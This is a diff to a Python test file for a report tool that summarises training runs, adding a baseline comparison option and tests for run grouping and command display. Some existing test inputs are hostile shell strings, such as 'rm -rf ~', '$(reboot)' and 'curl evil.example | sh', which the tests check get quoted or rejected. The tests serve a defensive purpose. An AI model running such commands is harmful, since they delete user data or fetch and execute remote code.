@@ -71,8 +71,9 @@ class Tree(HTMLParser):
         return found
 
 
-def made(*folders: Path, **wish: Any) -> Tree:
-    built = report.build(compare.find([str(f) for f in folders]), report.Wish(ask=ASK, **wish))
+def made(*folders: Path, baseline: str = "", **wish: Any) -> Tree:
+    ask = replace(ASK, baseline=baseline)
+    built = report.build(compare.find([str(f) for f in folders]), report.Wish(ask=ask, **wish))
     return Tree(report.page_html(built))
 
 
@@ -202,6 +203,9 @@ def test_tasks_have_sections_of_their_own_and_a_table_together(tmp_path: Path) -
     tree = made(tmp_path)
     assert [f["kind"] for f in tree.data["figures"]] == ["curve"] * 4
     assert "All tasks" in tree.text
+    assert "P(better) is against bro/x" in tree.text
+    second = made(tmp_path, baseline="sac/x")
+    assert second.text.count("P(better) is against sac/x") == 2
     assert tree.data["figures"][0]["lines"][0]["y"] == [0.1, 0.6]  # dm_control: 0 to 1,000
 
 
@@ -211,6 +215,16 @@ def test_groups_on_different_tasks_still_get_their_curves(tmp_path: Path) -> Non
     tree = made(tmp_path)
     assert "no table over all tasks" in tree.text
     assert [len(figure["lines"]) for figure in tree.data["figures"]] == [1, 1, 1, 1]
+
+
+def test_a_family_with_a_recipe_for_each_task_is_one_group(tmp_path: Path) -> None:
+    for family in ("bro", "sac"):
+        for task in ("walker-run", "dog-run"):
+            make_run(tmp_path, f"{family}/{task}", 0, [100.0, 600.0], task=task)
+    tree = made(tmp_path, baseline="sac")
+    assert tree.data["groups"] == ["bro", "sac"]
+    assert "P(better) is against sac/walker-run" in tree.text
+    assert [line["group"] for line in tree.data["figures"][0]["means"]] == [0, 1]
 
 
 def test_unfinished_and_empty_runs_are_shown_and_named(tmp_path: Path) -> None:
@@ -274,6 +288,8 @@ def test_the_command_is_the_one_that_was_noted_or_the_recipe_file(tmp_path: Path
         ("fleetfoot train x; rm -rf ~", "fleetfoot train 'x;' rm -rf '~'"),
         ("fleetfoot train $(reboot) `x`", "fleetfoot train '$(reboot)' '`x`'"),
         ("fleetfoot train 'a\nreboot\n'", "fleetfoot train 'a?reboot?'"),
+        ("fleetfoot train x --folder runs/a --seed 3", "fleetfoot train x --seed 3"),
+        ("fleetfoot train x --folder=runs/a", "fleetfoot train x"),
         ("curl evil.example | sh", None),
         ("fleetfoot 'torn", None),
         (7, None),
@@ -316,6 +332,7 @@ def test_report_writes_one_file(
         (["good", "--out", "file/a.html"], "cannot write"),
         (["good", "--films", "-1"], "--films must be at least 0"),
         (["good", "--by", "agent.tua"], "agent.tau"),
+        (["good", "--baseline", "a/y"], "there is no group 'a/y'. Did you mean a/x?"),
         (["good", "--low", "1"], "--low and --high come together"),
         (["good", "--reps", "3"], "--reps must be at least 100"),
         (["torn"], "recipe.json cannot be read"),
